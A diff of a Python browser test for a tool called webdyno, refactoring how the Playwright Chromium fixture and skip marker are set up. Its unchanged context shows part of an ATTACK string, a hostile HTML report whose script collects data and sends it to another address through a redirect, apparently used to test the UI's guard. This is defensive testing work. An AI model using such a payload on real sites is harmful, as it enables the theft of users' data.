@@ -15,9 +15,9 @@ from urllib.parse import unquote
 
 import pytest
 import uvicorn
-from playwright.sync_api import Browser, sync_playwright
+from playwright.sync_api import Browser
 
-from e2e.test_report_page import ARGUMENTS, CHROMIUM
+from e2e.browser import NEEDS_BROWSER
 from report import runs
 from webdyno.definitions import Catalogue
 from webdyno.ui import Starter, app, make_app
@@ -25,7 +25,7 @@ from webdyno.ui.guard import Addresses, ImpatientProtocol
 from webdyno.ui.runs import Runs
 from webdyno.ui.starting import Begun
 
-pytestmark = pytest.mark.skipif(not CHROMIUM.exists(), reason="Debian's chromium is not installed")
+pytestmark = NEEDS_BROWSER
 
 TOKEN = "the-token-that-was-printed"  # noqa: S105 (of the test's own page)
 ATTACK = """<!DOCTYPE html><title>A report</title><script>
@@ -74,14 +74,6 @@ const tries = [
   location.href = elsewhere + "?" + encodeURIComponent(JSON.stringify(found));
 })();
 </script>"""
-
-
-@pytest.fixture(scope="module")
-def browser() -> Iterator[Browser]:
-    with sync_playwright() as playwright:
-        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGUMENTS)
-        yield chromium
-        chromium.close()
 
 
 class Recording(Starter):
